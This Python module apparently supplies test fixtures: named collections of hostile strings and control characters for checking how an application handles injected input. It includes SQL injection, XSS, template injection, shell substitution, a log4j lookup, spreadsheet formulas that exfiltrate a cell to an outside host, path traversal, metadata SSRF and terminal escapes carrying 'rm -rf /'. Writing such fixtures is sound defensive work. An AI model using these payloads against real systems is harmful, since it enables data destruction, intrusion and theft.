"""Texts that have done harm elsewhere."""

from collections.abc import Mapping

INJECTIONS: Mapping[str, str] = {
    "sql": "'; DROP TABLE grants; --",
    "sql union": "x' UNION SELECT secret_hash FROM tokens --",
    "sql like": "%_\\%",
    "html": "<script>alert(1)</script>",
    "html attribute": '" onmouseover="alert(1)\' autofocus onfocus=alert(1)',
    "html late": "</pre></title></textarea><img src=x onerror=alert(1)>",
    "jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "percent": "%s%s%n%(name)s",
    "format": "{0.__class__.__init__.__globals__}{secret_hash}",
    "shell": "$(touch /tmp/x)`id`;|&",
    "log4j": "${jndi:ldap://198.51.100.1/a}",
    "rich": "[bold red]x[/bold red][link=file:///etc/passwd]y[/link]:smile:",
    "markdown": "[click](javascript:alert(1)) <@everyone> *bold* @channel",
    "formula": "=cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://198.51.100.1?x="&A1,"x")',
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\..\\windows\\win.ini",
    "encoded path": "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00",
    "url": "http://169.254.169.254/latest/meta-data/",
    "json": '","state":"approved","x":"',
    "prototype": "__proto__",
    "zero width": "ad\u200bmin\u200d\ufeff",
    "combining": "a" + "\u0301" * 200,
    "long": "x" * 20_000,
    "emoji": "👩‍👩‍👧‍👦" * 20,
    "homoglyph": "\u0430dmin",
    "dotless": "adm\u0131n",
    "crlf escaped": "x%0d%0aSet-Cookie:%20a=b",
}
"""Printable, if not plain."""

UNPRINTABLE: Mapping[str, str] = {
    "csi": "\x1b[2J\x1b[31mred",
    "osc 8": "\x1b]8;;http://198.51.100.1\x1b\\click\x1b]8;;\x1b\\",
    "osc 52": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "title": "\x1b]0;owned\x07",
    "bracketed paste": "\x1b[200~rm -rf /\n\x1b[201~",
    "c1 csi": "\x9b2J",
    "bell": "\x07\x08\x7f",
    "carriage return": "harmless\rhidden",
    "newline": 'x\n{"event": "request.approved", "level": "info"}',
    "log line": "x\n2026-01-05 09:00:00 [info     ] request.approved",
    "crlf": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "nul": "x\x00y",
    "bidi": "\u202egnp.exe\u202c",
    "isolate": "\u2066x\u2069\u2067",
    "line separator": "x\u2028y\u2029z",
    "next line": "x\x85y",
    "surrogate": "x\ud800y",
    "low surrogate": "\udc80",
}
"""What a terminal, a log or an eye would act on."""

HOSTILE: Mapping[str, str] = {**INJECTIONS, **UNPRINTABLE}

ACTED_ON = frozenset(
    [*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), "\u2028", "\u2029"]
    + [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
) - {"\n"}
"""Characters that must not reach a terminal, besides the ends of our own lines."""
